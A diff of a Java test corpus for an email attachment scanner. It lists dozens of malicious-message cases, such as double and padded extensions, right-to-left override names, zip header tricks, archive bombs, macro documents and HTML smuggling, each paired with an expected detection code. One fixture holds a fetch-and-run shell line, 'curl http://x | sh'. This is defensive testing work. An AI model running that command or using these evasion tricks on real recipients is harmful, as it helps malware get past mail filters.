@@ -30,8 +30,12 @@ import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
  */
 public final class Corpus {
 
-    /** One corpus message. {@code codes} empty means "no finding expected" (clean cases). */
-    public record Case(String id, String description, byte[] message, AttachmentVerdict expected, Set<ReasonCode> codes) {
+    /**
+     * One corpus message. {@code codes} are names of core's {@code ReasonCode}s (this module does not
+     * depend on core, whose own tests use the corpus; core's AttachmentCorpusTest checks every name);
+     * empty means "no finding expected" (clean cases).
+     */
+    public record Case(String id, String description, byte[] message, boolean dangerous, Set<String> codes) {
         @Override
         public String toString() {
             return id + " " + description;
@@ -65,172 +69,172 @@ public final class Corpus {
         byte[] pe = peStub();
         List<Case> cases = new ArrayList<>();
         cases.add(bad("T01", "plain invoice.exe", message().attachment("invoice.exe", "application/octet-stream", pe).build(),
-            ReasonCode.BLOCKED_EXTENSION));
-        cases.add(bad("T02", "bollettino.zip holding bollettino.pdf.exe", Fixtures.bollettino(), ReasonCode.DOUBLE_EXTENSION));
+            "BLOCKED_EXTENSION"));
+        cases.add(bad("T02", "bollettino.zip holding bollettino.pdf.exe", Fixtures.bollettino(), "DOUBLE_EXTENSION"));
         cases.add(bad("T03", "upper-case BOLLETTINO.PDF.EXE inside the zip",
             message().attachment("bollettino.zip", "application/zip", zip("BOLLETTINO.PDF.EXE", pe)).build(),
-            ReasonCode.DOUBLE_EXTENSION));
+            "DOUBLE_EXTENSION"));
         String padded = "bollettino.pdf" + " ".repeat(60) + ".exe";
         cases.add(bad("T04a", "space padding before .exe (MIME name)",
-            message().attachment(padded, "application/octet-stream", pe).build(), ReasonCode.DOUBLE_EXTENSION));
+            message().attachment(padded, "application/octet-stream", pe).build(), "DOUBLE_EXTENSION"));
         cases.add(bad("T04b", "Unicode-space padding before .exe (zip entry)",
             message().attachment("bollettino.zip", "application/zip", zip("bollettino.pdf" + "\u2003".repeat(30) + ".exe", pe)).build(),
-            ReasonCode.DOUBLE_EXTENSION));
+            "DOUBLE_EXTENSION"));
         cases.add(bad("T05a", "trailing dot bollettino.exe.",
-            message().attachment("bollettino.exe.", "application/octet-stream", pe).build(), ReasonCode.BLOCKED_EXTENSION));
+            message().attachment("bollettino.exe.", "application/octet-stream", pe).build(), "BLOCKED_EXTENSION"));
         cases.add(bad("T05b", "trailing space bollettino.exe (in zip)",
             message().attachment("b.zip", "application/zip", zip("bollettino.exe ", Fixtures.pdf("x"))).build(),
-            ReasonCode.BLOCKED_EXTENSION));
+            "BLOCKED_EXTENSION"));
         cases.add(bad("T06", "RTLO bollettino\\u202Efdp.exe via RFC 2231",
             message().part("application/octet-stream", "attachment; filename*=UTF-8''bollettino%E2%80%AEfdp.exe", Fixtures.pdf("x")).build(),
-            ReasonCode.HIDDEN_CHARACTERS));
+            "HIDDEN_CHARACTERS"));
         String encoded = Base64.getEncoder().encodeToString("bollettino.pdf.exe".getBytes(StandardCharsets.UTF_8));
         cases.add(bad("T08", "RFC 2047 encoded-word name",
             message().part("application/octet-stream", "attachment; filename=\"=?UTF-8?B?" + encoded + "?=\"", Fixtures.pdf("x")).build(),
-            ReasonCode.DOUBLE_EXTENSION));
+            "DOUBLE_EXTENSION"));
         cases.add(bad("T09", "RFC 2231 continuations splitting the extension",
             message().part("application/octet-stream", "attachment; filename*0=\"bollettino.pdf.\"; filename*1=\"ex\"; filename*2=\"e\"",
-                Fixtures.pdf("x")).build(), ReasonCode.DOUBLE_EXTENSION));
+                Fixtures.pdf("x")).build(), "DOUBLE_EXTENSION"));
         cases.add(bad("T10a", "Content-Type name a.pdf, Content-Disposition filename a.exe",
             message().part("application/pdf; name=\"a.pdf\"", "attachment; filename=\"a.exe\"", Fixtures.pdf("x")).build(),
-            ReasonCode.NAME_DISAGREEMENT));
+            "NAME_DISAGREEMENT"));
         cases.add(bad("T10b", "Content-Type name a.exe, Content-Disposition filename a.pdf",
             message().part("application/pdf; name=\"a.exe\"", "attachment; filename=\"a.pdf\"", Fixtures.pdf("x")).build(),
-            ReasonCode.NAME_DISAGREEMENT));
+            "NAME_DISAGREEMENT"));
         cases.add(bad("T10c", "whole Content-Disposition value as one encoded-word (E13)",
             message().part("application/octet-stream", "=?UTF-8?Q?attachment=3B_filename=3D=22bollettino.exe=22?=", Fixtures.pdf("x")).build(),
-            ReasonCode.BLOCKED_EXTENSION));
+            "BLOCKED_EXTENSION"));
         cases.add(bad("T11", "nameless PE declared application/pdf", message().part("application/pdf", null, pe).build(),
-            ReasonCode.EXECUTABLE_CONTENT));
+            "EXECUTABLE_CONTENT"));
         cases.add(bad("T12", "bollettino.pdf containing a PE", message().attachment("bollettino.pdf", "application/pdf", pe).build(),
-            ReasonCode.EXECUTABLE_CONTENT, ReasonCode.TYPE_MISMATCH));
+            "EXECUTABLE_CONTENT", "TYPE_MISMATCH"));
         cases.add(bad("T13a", "zip named bollettino.pdf holding an exe",
             message().attachment("bollettino.pdf", "application/pdf", zip("setup.bin", pe)).build(),
-            ReasonCode.TYPE_MISMATCH, ReasonCode.EXECUTABLE_CONTENT));
+            "TYPE_MISMATCH", "EXECUTABLE_CONTENT"));
         cases.add(bad("T13b", "zip named data.dat holding an exe",
-            message().attachment("data.dat", "application/octet-stream", zip("data", pe)).build(), ReasonCode.EXECUTABLE_CONTENT));
+            message().attachment("data.dat", "application/octet-stream", zip("data", pe)).build(), "EXECUTABLE_CONTENT"));
         cases.add(bad("T14", "benign.zip concatenated with evil.zip", message().attachment("documenti.zip", "application/zip",
             concat(zip("bollettino.pdf", Fixtures.pdf("x")), zip("bollettino.pdf.exe", pe))).build(),
-            ReasonCode.ZIP_CONCATENATED));
+            "ZIP_CONCATENATED"));
         cases.add(bad("T15a", "local header a.exe, central directory a.pdf", message().attachment("doc.zip", "application/zip",
-            patchLocalName(Fixtures.storedZip("a.pdf", Fixtures.pdf("x")), "a.exe")).build(), ReasonCode.ZIP_NAME_MISMATCH));
+            patchLocalName(Fixtures.storedZip("a.pdf", Fixtures.pdf("x")), "a.exe")).build(), "ZIP_NAME_MISMATCH"));
         cases.add(bad("T15b", "local header a.pdf, central directory a.exe", message().attachment("doc.zip", "application/zip",
-            patchCentralName(Fixtures.storedZip("a.pdf", Fixtures.pdf("x")), "a.exe")).build(), ReasonCode.ZIP_NAME_MISMATCH));
+            patchCentralName(Fixtures.storedZip("a.pdf", Fixtures.pdf("x")), "a.exe")).build(), "ZIP_NAME_MISMATCH"));
         cases.add(bad("T16", "two entries with the same name", message().attachment("doc.zip", "application/zip",
-            duplicateNames("fattura.pdf", Fixtures.pdf("x"), Fixtures.pdf("y"))).build(), ReasonCode.ZIP_DUPLICATE_NAME));
+            duplicateNames("fattura.pdf", Fixtures.pdf("x"), Fixtures.pdf("y"))).build(), "ZIP_DUPLICATE_NAME"));
         cases.add(bad("T17", "Zombie ZIP: declared stored, data deflated", message().attachment("doc.zip", "application/zip",
-            Fixtures.storedZip("fattura.pdf", deflate(peStub()))).build(), ReasonCode.ZIP_METHOD_MISMATCH));
+            Fixtures.storedZip("fattura.pdf", deflate(peStub()))).build(), "ZIP_METHOD_MISMATCH"));
         cases.add(bad("T19a", "zip in zip in zip holding an exe",
             message().attachment("a.zip", "application/zip", zip("b.zip", zip("c.zip", zip("readme.txt", pe)))).build(),
-            ReasonCode.EXECUTABLE_CONTENT));
+            "EXECUTABLE_CONTENT"));
         cases.add(bad("T19b", "six nested zips (beyond the depth limit)",
             message().attachment("a.zip", "application/zip", nested(6, zip("readme.txt", "hello".getBytes(StandardCharsets.US_ASCII)))).build(),
-            ReasonCode.LIMIT_EXCEEDED));
+            "LIMIT_EXCEEDED"));
         cases.add(bad("T20", "ZipCrypto-flagged zip with x.pdf.exe",
             message().attachment("x.zip", "application/zip", Fixtures.zipCryptoFlagged("x.pdf.exe", pe)).build(),
-            ReasonCode.ENCRYPTED_CONTENT));
+            "ENCRYPTED_CONTENT"));
         cases.add(bad("T21", "7z with encrypted headers", message().attachment("documenti.7z", "application/x-7z-compressed",
-            sevenZipWithEncryptedHeader()).build(), ReasonCode.ENCRYPTED_CONTENT));
+            sevenZipWithEncryptedHeader()).build(), "ENCRYPTED_CONTENT"));
         cases.add(bad("T22", "AES-encrypted zip entry doc.pdf",
-            message().attachment("doc.zip", "application/zip", aesZip("doc.pdf")).build(), ReasonCode.ENCRYPTED_CONTENT));
+            message().attachment("doc.zip", "application/zip", aesZip("doc.pdf")).build(), "ENCRYPTED_CONTENT"));
         cases.add(bad("T23a", "RAR5 archive", message().attachment("doc.rar", "application/octet-stream", rar5()).build(),
-            ReasonCode.UNINSPECTABLE_ARCHIVE));
+            "UNINSPECTABLE_ARCHIVE"));
         cases.add(bad("T23b", "split RAR named doc.pdf.001",
-            message().attachment("doc.pdf.001", "application/octet-stream", rar4()).build(), ReasonCode.UNINSPECTABLE_ARCHIVE));
+            message().attachment("doc.pdf.001", "application/octet-stream", rar4()).build(), "UNINSPECTABLE_ARCHIVE"));
         cases.add(bad("T24a", "invoice.js.gz", message().attachment("invoice.js.gz", "application/gzip",
-            Fixtures.gzip("WScript.Echo('x');".getBytes(StandardCharsets.US_ASCII))).build(), ReasonCode.BLOCKED_EXTENSION));
+            Fixtures.gzip("WScript.Echo('x');".getBytes(StandardCharsets.US_ASCII))).build(), "BLOCKED_EXTENSION"));
         cases.add(bad("T24b", "tgz with a .vbs", message().attachment("fatture.tgz", "application/gzip",
             Fixtures.gzip(Fixtures.tar(Map.of("fattura.vbs", "MsgBox 1".getBytes(StandardCharsets.US_ASCII))))).build(),
-            ReasonCode.BLOCKED_EXTENSION));
+            "BLOCKED_EXTENSION"));
         cases.add(bad("T25a", "ISO 9660 image", message().attachment("fattura.iso", "application/octet-stream", iso()).build(),
-            ReasonCode.DISK_IMAGE));
+            "DISK_IMAGE"));
         cases.add(bad("T25b", "raw FAT image .img", message().attachment("disk.img", "application/octet-stream", fatImage()).build(),
-            ReasonCode.DISK_IMAGE));
+            "DISK_IMAGE"));
         cases.add(bad("T25c", "VHDX renamed .pdf", message().attachment("fattura.pdf", "application/pdf", vhdx()).build(),
-            ReasonCode.DISK_IMAGE, ReasonCode.TYPE_MISMATCH));
+            "DISK_IMAGE", "TYPE_MISMATCH"));
         cases.add(bad("T25d", "fixed VHD (footer only) named .dat", message().attachment("backup.dat", "application/octet-stream", vhd()).build(),
-            ReasonCode.DISK_IMAGE));
+            "DISK_IMAGE"));
         cases.add(bad("T26a", "OneNote .one", message().attachment("note.one", "application/onenote", oneNote()).build(),
-            ReasonCode.ONENOTE));
+            "ONENOTE"));
         cases.add(bad("T26b", "OneNote renamed .pdf", message().attachment("note.pdf", "application/pdf", oneNote()).build(),
-            ReasonCode.ONENOTE, ReasonCode.TYPE_MISMATCH));
+            "ONENOTE", "TYPE_MISMATCH"));
         cases.add(bad("T27a", ".docm with macros", message().attachment("report.docm", "application/vnd.ms-word.document.macroEnabled.12",
-            Fixtures.ooxml("word/document.xml", true)).build(), ReasonCode.MACROS));
+            Fixtures.ooxml("word/document.xml", true)).build(), "MACROS"));
         cases.add(bad("T27b", "macro .docx (vbaProject.bin under a macro-free name)", message().attachment("report.docx",
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document", Fixtures.ooxml("word/document.xml", true)).build(),
-            ReasonCode.MACROS));
+            "MACROS"));
         cases.add(bad("T27c", "legacy .doc with an OLE2 VBA storage", message().attachment("report.doc", "application/msword",
-            Fixtures.oleWithStorage("Macros")).build(), ReasonCode.MACROS));
+            Fixtures.oleWithStorage("Macros")).build(), "MACROS"));
         byte[] smuggled = zip("fattura.pdf.exe", pe);
         cases.add(bad("T28a", "HTML smuggling: fattura.html, atob + Blob building a zip holding an exe",
             message().attachment("fattura.html", "text/html", HtmlPages.classic(smuggled, "fattura.zip")).build(),
-            ReasonCode.HTML_SMUGGLING));
+            "HTML_SMUGGLING"));
         cases.add(bad("T28b", "SVG smuggling: an SVG image whose script builds the same zip",
             message().attachment("documento.svg", "image/svg+xml", HtmlPages.svg(smuggled, "documento.zip")).build(),
-            ReasonCode.HTML_SMUGGLING));
+            "HTML_SMUGGLING"));
         cases.add(bad("T28c", "obfuscated smuggling: reversed base64 turned back by split/reverse/join",
             message().attachment("documento.htm", "text/html", HtmlPages.reversed(smuggled, "documento.zip")).build(),
-            ReasonCode.HTML_SMUGGLING));
+            "HTML_SMUGGLING"));
         cases.add(bad("T28d", "smuggled payload split across 76-character strings joined at run time",
             message().attachment("bonifico.html", "application/octet-stream", HtmlPages.split(smuggled, "bonifico.zip")).build(),
-            ReasonCode.HTML_SMUGGLING));
+            "HTML_SMUGGLING"));
         cases.add(bad("T28e", "no script: a download link whose href is a data:application/octet-stream;base64 zip",
             message().attachment("documenti.html", "text/html", HtmlPages.dataLink(smuggled, "documenti.zip")).build(),
-            ReasonCode.HTML_SMUGGLING));
+            "HTML_SMUGGLING"));
         cases.add(bad("T28f", "smuggling page inside a zip",
             message().attachment("pratica.zip", "application/zip", zip("pratica.html", HtmlPages.classic(smuggled, "pratica.zip"))).build(),
-            ReasonCode.HTML_SMUGGLING));
+            "HTML_SMUGGLING"));
         cases.add(bad("T28g", "nameless text/html part with Content-Disposition: attachment",
             message().part("text/html; charset=utf-8", "attachment", HtmlPages.classic(smuggled, "fattura.zip")).build(),
-            ReasonCode.HTML_SMUGGLING));
+            "HTML_SMUGGLING"));
         cases.add(bad("T28h", "dropper script one base64 layer down: a script whose src is a data:text/javascript;base64 URL",
             message().attachment("avviso.html", "text/html", HtmlPages.scriptInDataUrl(smuggled, "avviso.zip")).build(),
-            ReasonCode.HTML_SMUGGLING));
+            "HTML_SMUGGLING"));
         cases.add(bad("T28i", "saved web archive fattura.mht whose page is a smuggling page",
             message().attachment("fattura.mht", "application/octet-stream",
-                HtmlPages.webArchive(HtmlPages.classic(smuggled, "fattura.zip"))).build(), ReasonCode.HTML_SMUGGLING));
+                HtmlPages.webArchive(HtmlPages.classic(smuggled, "fattura.zip"))).build(), "HTML_SMUGGLING"));
         byte[] inner = Fixtures.bollettino();
         cases.add(bad("T30a", "message/rfc822 holding the bollettino zip", message().attachedMessage(inner).build(),
-            ReasonCode.DOUBLE_EXTENSION));
+            "DOUBLE_EXTENSION"));
         cases.add(bad("T30b", ".eml sent as application/octet-stream", message().attachment("inoltro.eml", "application/octet-stream", inner).build(),
-            ReasonCode.DOUBLE_EXTENSION));
+            "DOUBLE_EXTENSION"));
         cases.add(bad("T31", "uuencoded bollettino.exe in a text part",
             message().textPart("Vedi allegato.\r\n\r\n" + Fixtures.uuencode("bollettino.exe", pe).replace("\n", "\r\n")).build(),
-            ReasonCode.BLOCKED_EXTENSION));
+            "BLOCKED_EXTENSION"));
         cases.add(bad("T32", "TNEF winmail.dat holding bollettino.exe",
             message().attachment("winmail.dat", "application/ms-tnef", Fixtures.tnef("bollettino.exe", pe)).build(),
-            ReasonCode.BLOCKED_EXTENSION));
+            "BLOCKED_EXTENSION"));
         cases.add(bad("T34a", "overlapping-entry zip bomb (Fifield style)",
             message().attachment("bomb.zip", "application/zip", overlappingBomb(200)).build(),
-            ReasonCode.ZIP_OVERLAPPING_ENTRIES));
+            "ZIP_OVERLAPPING_ENTRIES"));
         cases.add(bad("T34b", "recursive 42.zip-style bomb", message().attachment("42.zip", "application/zip", recursiveBomb()).build(),
-            ReasonCode.LIMIT_EXCEEDED));
+            "LIMIT_EXCEEDED"));
         cases.add(bad("T35", "ZIP64 archive holding an exe", message().attachment("big.zip", "application/zip", zip64("setup.exe", pe)).build(),
-            ReasonCode.BLOCKED_EXTENSION));
-        cases.add(bad("X01", "attachment inside multipart/alternative", alternativeWithAttachment(pe), ReasonCode.BLOCKED_EXTENSION));
+            "BLOCKED_EXTENSION"));
+        cases.add(bad("X01", "attachment inside multipart/alternative", alternativeWithAttachment(pe), "BLOCKED_EXTENSION"));
         cases.add(bad("X02", "full-width .ｅｘｅ (NFKC)", message().attachment("bollettino.\uFF45\uFF58\uFF45", "application/octet-stream", pe).build(),
-            ReasonCode.BLOCKED_EXTENSION));
+            "BLOCKED_EXTENSION"));
         cases.add(bad("X03", "zero-width space in a zip entry name",
             message().attachment("b.zip", "application/zip", zip("fattura\u200B.pdf", Fixtures.pdf("x"))).build(),
-            ReasonCode.HIDDEN_CHARACTERS));
+            "HIDDEN_CHARACTERS"));
         cases.add(bad("X04", "Windows shortcut named .pdf", message().attachment("fattura.pdf", "application/pdf", lnk()).build(),
-            ReasonCode.EXECUTABLE_CONTENT));
+            "EXECUTABLE_CONTENT"));
         cases.add(bad("X05", "ELF binary named .jpg", message().attachment("foto.jpg", "image/jpeg", elf()).build(),
-            ReasonCode.EXECUTABLE_CONTENT));
+            "EXECUTABLE_CONTENT"));
         cases.add(bad("X06", "shebang script named .txt",
             message().attachment("note.txt", "text/plain", "#!/bin/sh\ncurl http://x | sh\n".getBytes(StandardCharsets.US_ASCII)).build(),
-            ReasonCode.EXECUTABLE_CONTENT));
+            "EXECUTABLE_CONTENT"));
         cases.add(bad("X07", "Windows Installer (MSI) named .doc", message().attachment("fattura.doc", "application/msword",
-            Fixtures.ole("SummaryInformation", msiClsid())).build(), ReasonCode.EXECUTABLE_CONTENT));
+            Fixtures.ole("SummaryInformation", msiClsid())).build(), "EXECUTABLE_CONTENT"));
         cases.add(bad("X08", "encrypted PDF", message().attachment("estratto.pdf", "application/pdf", Fixtures.encryptedPdf()).build(),
-            ReasonCode.ENCRYPTED_CONTENT));
+            "ENCRYPTED_CONTENT"));
         cases.add(bad("X09", "password-protected OOXML (EncryptedPackage)", message().attachment("bilancio.xlsx",
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", Fixtures.oleWithStorage("EncryptedPackage")).build(),
-            ReasonCode.ENCRYPTED_CONTENT));
+            "ENCRYPTED_CONTENT"));
         cases.add(bad("X10", "Java class file", message().attachment("Update.class", "application/octet-stream", javaClass()).build(),
-            ReasonCode.EXECUTABLE_CONTENT));
+            "EXECUTABLE_CONTENT"));
         cases.add(bad("X11", "truncated zip", message().attachment("rotto.zip", "application/zip", truncated(zip("a.pdf", Fixtures.pdf("x")))).build(),
-            ReasonCode.MALFORMED_CONTENT, ReasonCode.ZIP_MALFORMED, ReasonCode.INSPECTION_ERROR));
+            "MALFORMED_CONTENT", "ZIP_MALFORMED", "INSPECTION_ERROR"));
         return cases;
     }
 
@@ -268,12 +272,12 @@ public final class Corpus {
         return cases;
     }
 
-    private static Case bad(String id, String description, byte[] message, ReasonCode... codes) {
-        return new Case(id, description, message, AttachmentVerdict.DANGEROUS, Set.of(codes));
+    private static Case bad(String id, String description, byte[] message, String... codes) {
+        return new Case(id, description, message, true, Set.of(codes));
     }
 
     private static Case good(String id, String description, byte[] message) {
-        return new Case(id, description, message, AttachmentVerdict.CLEAN, Set.of());
+        return new Case(id, description, message, false, Set.of());
     }
 
     /** Wraps a message as a message/rfc822 attachment of another. */
